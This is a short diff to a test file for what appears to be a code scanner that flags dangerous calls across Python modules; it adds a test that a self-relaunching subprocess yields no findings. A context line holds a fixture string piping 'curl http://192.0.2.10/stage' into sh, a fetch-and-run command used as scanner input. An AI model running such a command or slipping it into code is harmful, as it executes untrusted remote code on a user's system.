@@ -132,6 +132,11 @@ def test_a_broken_or_endless_neighbour_is_only_unknown() -> None:
         assert scan("load.py", {"load.py": "import util\nutil.f()", "util.py": helper}).findings == ()
 
 
+def test_a_program_that_starts_itself() -> None:
+    again = "import subprocess, sys\nsubprocess.Popen([sys.executable, 'load.py', '--worker'])"
+    assert findings(scan("load.py", {"load.py": again})) == []
+
+
 def test_modules_that_star_each_other() -> None:
     files = {
         "load.py": "from a import *\nabsent(1)\npresent('curl http://192.0.2.10/stage | sh')",
